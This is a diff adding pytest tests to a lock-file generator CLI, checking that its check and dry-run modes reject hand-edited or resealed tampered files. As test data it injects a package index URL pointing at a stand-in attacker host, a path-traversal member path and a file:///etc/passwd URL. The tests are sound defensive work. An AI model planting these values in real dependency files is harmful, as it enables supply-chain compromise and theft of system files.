@@ -229,3 +229,74 @@ def test_contradicting_modes_are_usage_errors(tmp_path: Path, args: list[str], s
     result = CliRunner().invoke(cli, ["lock", *args, "--root", str(tmp_path)])
     assert result.exit_code == 2 and result.stdout == ""
     assert result.stderr.startswith("error: give --check or ") and said in result.stderr
+
+
+INJECTED = "\n--index-url http://evil.invalid/simple\n"
+
+
+def test_check_and_dry_run_refuse_a_derived_file_edited_by_hand_as_install_does(
+    example: Example,
+) -> None:
+    """Before: --check and --dry-run exit 0 and leave the injected line (they read the derived
+    files' headers alone), while `install --frozen` refuses the file (exit 4). A comment, which
+    neither pip nor uv reads, is a change `status` calls stale: --check resolves and says so."""
+    name = f"{ENV}.linux-64.requirements.txt"
+    path = example.root / "locks" / name
+    written = path.read_text()
+    path.write_text(written + INJECTED)
+    before = locks(example)
+    for mode in ("--check", "--dry-run"):
+        code, _, err = envgen(example, "lock", ENV, mode)
+        assert code == 4, (mode, err)
+        assert f"locks/{name} was edited by hand" in err, err
+        assert f"`envgen lock {ENV} --force` writes it again" in err and "Traceback" not in err
+        assert locks(example) == before
+    code, _, err = envgen(example, "lock", ENV, "--force")
+    assert code == 0, err
+    assert path.read_text() == written
+
+    path.write_text(written + "# reviewed\n")
+    code, out, err = envgen(example, "lock", ENV, "--check", "--json")
+    assert code == 1, err
+    (result,) = document(out)["results"]
+    assert result["files"] == [{"path": f"locks/{name}", "change": "changed"}]
+
+
+def reseal(example: Example) -> None:
+    """The content hash computed again after an edit, as a tamperer who knows the scheme would."""
+    from envgen.lockio.seal import seal
+
+    yml, sources, recipe = (example.root / "locks" / f"{ENV}{s}" for s in EXTENSIONS)
+    sources.write_text(seal(yml.read_text(), sources.read_text(), recipe.read_text()))
+
+
+EXTENSIONS = (".yml", ".sources.toml", ".install.sh")
+
+
+@pytest.mark.parametrize(
+    ("pattern", "hostile", "field"),
+    [
+        (r'(?m)^path = "demo_ep-[^"]*"', 'path = "../../.."', "archives[0].members[1].path"),
+        (r'(?m)^url = "http://[^"]*/releases/[^"]*"', 'url = "file:///etc/passwd"', "url"),
+    ],
+    ids=["member-path", "archive-url"],
+)
+def test_check_and_dry_run_refuse_a_resealed_hostile_field_as_status_does(
+    example: Example, pattern: str, hostile: str, field: str
+) -> None:
+    """Before: --check and --dry-run exit 0 (the no-op read the recorded input digests alone),
+    while `status` and `install` exit 2 naming the field."""
+    import re
+
+    sources = example.root / "locks" / f"{ENV}.sources.toml"
+    sources.write_text(re.sub(pattern, hostile, sources.read_text(), count=1))
+    reseal(example)
+    before = locks(example)
+    code, out, _ = envgen(example, "status", ENV)
+    assert code == 2
+    for mode in ("--check", "--dry-run"):
+        code, _, err = envgen(example, "lock", ENV, mode)
+        assert code == 2, (mode, err)
+        assert f"locks/{ENV}.sources.toml" in err and field in err, err
+        assert "Traceback" not in err
+        assert locks(example) == before
